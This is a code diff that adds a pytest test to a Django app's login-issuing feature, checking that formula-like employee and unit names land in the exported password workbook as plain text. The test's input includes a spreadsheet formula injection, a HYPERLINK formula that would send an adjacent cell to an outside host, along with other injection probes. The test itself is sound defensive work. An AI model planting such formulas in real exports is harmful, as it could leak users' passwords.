@@ -19,7 +19,7 @@ from casspath.org.actions.logins import (
     do_run_login_batch,
     one_time_password,
 )
-from casspath.org.models import LoginBatch, Position, Role, RoleAssignment
+from casspath.org.models import LoginBatch, OrgUnit, Position, Role, RoleAssignment
 
 
 @pytest.fixture(autouse=True)
@@ -76,6 +76,23 @@ def test_it_issues_logins_to_those_without_one(client, world):
     assert response.status_code == 302
     assert client.get(reverse("home"))["Location"] == reverse("password_change")
     assert AuditEvent.objects.filter(verb="org.issue_logins", actor=world.city_admin_a).exists()
+
+
+def test_it_writes_formula_like_names_as_plain_text_beside_the_passwords(client, world):
+    hostile = '=HYPERLINK("http://x/?"&E2,"y")'
+    make_employee("E0003", hostile, world.team_a)
+    OrgUnit.objects.filter(pk=world.team_a.pk).update(name="@SUM(A1)")
+    OrgUnit.objects.filter(pk=world.city_a.pk).update(name="-2+3")
+    client.force_login(world.city_admin_a)
+    batch = do_issue_logins(world.city_a, acting_user=world.city_admin_a)
+    workbook = load_workbook(io.BytesIO(download(client, batch).content))
+    rows = {row[0].value: row for row in workbook.worksheets[0].iter_rows(min_row=2)}
+    assert (rows["E0003"][1].value, rows["E0003"][1].data_type) == (hostile, "s")
+    assert (rows["E0003"][2].value, rows["E0003"][2].data_type) == ("@SUM(A1)", "s")
+    note = workbook.worksheets[1]["A1"]
+    assert (note.value, note.data_type) == ("-2+3 (GZ)", "s")
+    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
 
 
 def test_it_deletes_the_file_at_the_first_download(client, world):
